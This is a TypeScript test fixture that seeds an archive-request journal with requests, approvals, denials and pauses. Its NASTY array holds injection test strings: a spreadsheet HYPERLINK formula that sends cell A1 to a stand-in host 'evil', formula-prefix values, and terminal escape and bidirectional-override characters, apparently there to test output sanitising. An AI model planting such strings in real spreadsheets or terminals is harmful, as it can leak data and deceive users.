import type { Journal } from '../../src/archive/ports-journal';
import type { Approval, ArchiveRequest } from '../../src/archive/request';
import { advance, confirmed, denial, NOON, newRequest, planned } from '../journal/builders';

const DAY = 24 * 3_600_000;

/** Texts that break tables, files, terminals and spreadsheets. */
export const NASTY = [
  '=HYPERLINK("http://evil/?"&A1,"click")',
  ' \t@SUM(1)',
  "'+1",
  'a "quoted", and\r\na second line',
  '\u001b[2J\u202eevil\u2028next',
  'Обучение №5 👩‍👩‍👧‍👦\u2029\u2028',
  '',
  'a;=1+1',
] as const;

/** Four requests of two people, in four states, over three days; two denials; and a pause that is over. */
export async function fill(journal: Journal): Promise<void> {
  const training = {
    id: '11',
    projectId: '1',
    name: NASTY[0],
    status: 'CLOSED',
    lastCloseReason: null,
    created: NOON,
    url: '',
  };
  const plan = { ...newRequest('done').plan, training, projectName: 'P' };
  const asked = await planned(journal, 'done', { trainingId: '11', plan });
  let done = await advance(journal, asked, 'confirmed', { with: { reason: NASTY[3] } });
  for (const kind of ['submitting', 'accepted'] as const)
    done = await advance(journal, done, kind, { actor: 'app' });
  await advance(journal, done, 'succeeded', { actor: 'app', at: NOON + 9, with: { operationId: 'op-1' } });
  await confirmed(journal, 'open', {
    trainingId: '12',
    createdAt: NOON + DAY,
    requester: 'U2',
    channel: 'C2',
  });
  const failing = { trainingId: '13', environment: 'sandbox', createdAt: NOON + DAY };
  const outcome = { code: 'x', said: NASTY[4] };
  await advance(journal, await confirmed(journal, 'not', failing), 'not_started', {
    actor: 'U7',
    with: { outcome },
  });
  await planned(journal, 'seen', { trainingId: '11', createdAt: NOON + 2 * DAY });
  await journal.deny(denial('r1', { detail: NASTY[1], trainingId: '11', environment: 'production' }));
  await journal.deny(denial('r2', { at: NOON + DAY, user: 'U3' }));
  const where = { team: 'T1', channel: 'C1' };
  await journal.setPause({ kind: 'paused', user: 'U9', reason: NASTY[3], at: NOON + DAY, ...where });
  await journal.setPause({ kind: 'resumed', user: 'U8', reason: '', at: NOON + DAY + 1, ...where });
}

/** What only a team has: two requests that were approved and confirmed together, one that waits, one that was declined. */
export async function fillTeam(journal: Journal): Promise<void> {
  const approval: Approval = {
    ...{
      needed: 2,
      audience: { everyone: false, people: ['U2', 'U3'], groups: ['S1'] },
      given: [],
      changes: [],
    },
    ...{ askedAt: NOON, until: NOON + DAY, remindedAt: null, declined: null },
  };
  const ask = async (id: string, trainingId: string, over: object = {}) =>
    advance(
      journal,
      await planned(journal, id, { trainingId, createdAt: NOON + 3 * DAY }),
      'approval_requested',
      {
        with: { approval, ...over },
      },
    );
  const approve = (request: ArchiveRequest, kind: 'approved' | 'fully_approved', user: string) =>
    advance(journal, request, kind, { actor: user, with: { user } });
  for (const [place, id] of ['b1', 'b2'].entries()) {
    const asked = await ask(id, `2${place}`, { batch: 'b1', place });
    await approve(await approve(asked, 'approved', 'U2'), 'fully_approved', 'U3');
  }
  await approve(await ask('waits', '31'), 'approved', 'U3');
  const reason = NASTY[4];
  await advance(journal, await ask('declined', '32'), 'declined', {
    actor: 'U2',
    with: { user: 'U2', reason },
  });
}

/** Somebody waits until a training can be archived. */
export const WATCH = `insert into watches
  (id, environment, training_id, user_id, team_id, channel, created_at, tries, due_at, claimed_until)
  values ('w1', 'production', '40', 'U1', 'T1', 'C1', ${NOON}, 3, ${NOON + DAY}, null)`;
